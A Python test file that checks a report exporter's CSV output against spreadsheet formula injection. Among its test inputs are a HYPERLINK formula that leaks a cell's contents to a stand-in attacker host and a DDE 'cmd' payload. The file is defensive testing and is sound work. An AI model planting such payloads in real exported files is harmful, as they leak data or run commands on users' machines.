"""CSV injection: no cell of an exported CSV table is a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from core.evidence.importer import import_transcripts
from core.reports.csv_safety import FORMULA_TRIGGERS, neutralise
from core.reports.export import export_report
from core.store.cases import create_case
from tests.conftest import write_jsonl

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Lumen answers", "Lumen answers"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_follows_owasp(raw: str, shown: str) -> None:
    assert neutralise(raw) == shown
    assert not neutralise(raw).startswith(FORMULA_TRIGGERS)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_exported_csv_cell_starts_a_formula(case_file, tmp_path: Path) -> None:
    cid = create_case(case_file, "Injection test", "DA-CSV-1")
    answers = write_jsonl(
        tmp_path / "answers.jsonl",
        [{"prompt": "Who made you?", "response": HYPERLINK}],
    )
    import_transcripts(
        case_file,
        cid,
        answers,
        "protected-answers",
        name=HYPERLINK,
        source="@SUM(1+1)*cmd|' /C calc'!A0",
        collector="+44 20 7946 0000",
        provider="-Halcyon",
    )
    folder = tmp_path / "csv"
    export_report(case_file, cid, tmp_path / "r.pdf", csv_dir=folder)
    text = (folder / "evidence_inventory.csv").read_text(encoding="utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["name"] == "'" + HYPERLINK  # shown as text, still readable
    assert row["source"].startswith("'@") and row["collector"] == "'+44 20 7946 0000"
    for path in sorted(folder.glob("*.csv")):
        for cells in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            live = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _number(c)]
            assert live == [], f"{path.name}: {live}"


def test_numbers_stay_numbers() -> None:
    from core.reports.bundle import _cell

    assert _cell(-0.25) == "-0.25" and _cell(-3) == "-3" and _cell(1e-05) == "1e-05"
    assert _cell(float("-inf")) == "'-inf"  # not a number a spreadsheet knows: text
    assert _cell(["-a", "b"]) == "'-a; b"
